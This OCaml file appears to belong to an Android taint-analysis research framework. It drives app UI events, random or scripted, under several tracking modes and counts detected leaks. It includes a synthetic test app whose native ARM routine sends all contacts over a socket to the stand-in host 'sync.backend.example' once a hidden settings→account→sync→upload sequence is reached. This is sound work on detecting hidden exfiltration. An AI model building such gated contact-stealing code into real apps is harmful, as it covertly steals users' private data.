module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Layout = Ndroid_emulator.Layout
module Taint = Ndroid_taint.Taint
module A = Ndroid_android

type ui_app = { app : Harness.app; handlers : string list }

type drive_result = {
  events_fired : string list;
  leaked : bool;
  outcome_leaks : A.Sink_monitor.leak list;
}

let attach_mode device = function
  | Harness.Vanilla -> Ndroid_taintdroid.Taintdroid.vanilla device
  | Harness.Taintdroid_only -> Ndroid_taintdroid.Taintdroid.attach device
  | Harness.Droidscope_mode -> Ndroid_core.Droidscope.attach device
  | Harness.Ndroid_full -> ignore (Ndroid_core.Ndroid.attach device)

let drive events_of_handlers ~mode ui =
  let device = Harness.boot ui.app in
  attach_mode device mode;
  let cls, _ = ui.app.Harness.entry in
  let fired =
    List.map
      (fun handler ->
        (try ignore (Device.run device cls handler [||])
         with Vm.Java_throw _ -> ());
        handler)
      events_of_handlers
  in
  let leaks = A.Sink_monitor.leaks (Device.monitor device) in
  { events_fired = fired;
    leaked = List.exists (fun l -> Taint.is_tainted l.A.Sink_monitor.taint) leaks;
    outcome_leaks = leaks }

let mix seed i =
  let z = ref ((seed * 0x9E3779B9) lxor (i * 0x85EBCA6B)) in
  z := (!z lxor (!z lsr 13)) * 0x2C1B3C6D land max_int;
  !z lxor (!z lsr 16)

let drive_random ~seed ~events ~mode ui =
  let n = List.length ui.handlers in
  let sequence =
    List.init events (fun i -> List.nth ui.handlers (mix seed i mod n))
  in
  drive sequence ~mode ui

let drive_script ~script ~mode ui = drive script ~mode ui

(* ---- the gated demo app ---- *)

let cls = "Lcom/ndroid/demos/Gated;"
let state = { B.f_class = cls; f_name = "state" }

let exfil_lib extern =
  Asm.assemble ~extern ~base:Layout.app_lib_base
    [ Asm.Label "exfil";
      Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
      Asm.I (Insn.mov 1 (Insn.Reg 2));
      Asm.I (Insn.mov 2 (Insn.Imm 0));
      Asm.Call "GetStringUTFChars";
      Asm.I (Insn.mov 4 (Insn.Reg 0));
      Asm.Call "strlen";
      Asm.I (Insn.mov 5 (Insn.Reg 0));
      Asm.Call "socket";
      Asm.I (Insn.mov 6 (Insn.Reg 0));
      Asm.La (1, "dest");
      Asm.Call "connect";
      Asm.I (Insn.mov 0 (Insn.Reg 6));
      Asm.I (Insn.mov 1 (Insn.Reg 4));
      Asm.I (Insn.mov 2 (Insn.Reg 5));
      Asm.Call "send";
      Asm.I (Insn.mov 0 (Insn.Imm 0));
      Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
      Asm.Align4;
      Asm.Label "dest";
      Asm.Asciz "sync.backend.example" ]

(* a handler that bumps the state machine iff it is in [expected] *)
let step_handler name ~expected =
  J.method_ ~cls ~name ~shorty:"V" ~registers:6
    [ J.I (B.Sget (0, state));
      J.I (B.Const (1, Dvalue.Int (Int32.of_int expected)));
      J.If_l (B.Ne, 0, 1, "reset");
      J.I (B.Binop_lit (B.Add, 0, 0, 1l));
      J.I (B.Sput (0, state));
      J.I B.Return_void;
      J.L "reset";
      J.I (B.Const (0, Dvalue.Int 0l));
      J.I (B.Sput (0, state));
      J.I B.Return_void ]

let reset_handler name =
  J.method_ ~cls ~name ~shorty:"V" ~registers:4
    [ J.I (B.Const (0, Dvalue.Int 0l)); J.I (B.Sput (0, state));
      J.I B.Return_void ]

let gated_classes =
  [ J.class_ ~name:cls ~super:"Ljava/lang/Object;" ~static_fields:[ "state" ]
      [ J.native_method ~cls ~name:"exfil" ~shorty:"IL" "exfil";
        reset_handler "home";
        reset_handler "about";
        step_handler "settings" ~expected:0;
        step_handler "account" ~expected:1;
        step_handler "sync" ~expected:2;
        (* upload: leaks only when the state machine reached 3 *)
        J.method_ ~cls ~name:"upload" ~shorty:"V" ~registers:6
          [ J.I (B.Sget (0, state));
            J.I (B.Const (1, Dvalue.Int 3l));
            J.If_l (B.Ne, 0, 1, "no");
            J.I (B.Const (2, Dvalue.Int 0l));
            J.I
              (B.Invoke
                 ( B.Static,
                   { B.m_class = "Landroid/provider/ContactsProvider;";
                     m_name = "queryAll" },
                   [] ));
            J.I (B.Move_result 3);
            J.I (B.Invoke (B.Static, { B.m_class = cls; m_name = "exfil" }, [ 3 ]));
            J.L "no";
            J.I (B.Const (0, Dvalue.Int 0l));
            J.I (B.Sput (0, state));
            J.I B.Return_void ];
        (* the harness entry point exists but does nothing on its own *)
        reset_handler "main" ] ]

let gated_app =
  { app =
      { Harness.app_name = "gated";
        app_case = "input generation";
        description =
          "contacts leak gated behind the UI path settings -> account -> sync -> upload";
        classes = gated_classes;
        build_libs = (fun extern -> [ ("gated", exfil_lib extern) ]);
        entry = (cls, "main");
        expected_sink = "send" };
    handlers = [ "home"; "about"; "settings"; "account"; "sync"; "upload" ] }

let gated_script = [ "settings"; "account"; "sync"; "upload" ]

let discovery_rate ~seeds ~events ~mode ui =
  let found = ref 0 in
  for seed = 1 to seeds do
    if (drive_random ~seed ~events ~mode ui).leaked then incr found
  done;
  !found
